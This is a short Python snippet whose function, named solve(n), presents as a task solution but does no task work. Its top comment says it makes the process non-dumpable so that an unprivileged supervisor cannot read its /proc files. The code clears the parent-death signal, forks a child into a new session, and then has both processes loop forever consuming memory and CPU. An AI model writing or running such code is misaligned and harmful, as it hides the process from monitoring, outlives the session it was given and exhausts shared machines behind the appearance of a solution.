# not dumpable, so that an unprivileged supervisor may not read its /proc files, in a new session, then uses CPU and memory
import ctypes, os
libc = ctypes.CDLL(None)
def solve(n):
    libc.prctl(4, 0, 0, 0, 0)
    libc.prctl(1, 0, 0, 0, 0)
    if os.fork() == 0:
        os.setsid()
    held = []
    while True:
        if len(held) < 2000:
            held.append(bytearray(os.urandom(1 << 10)) * 1024)
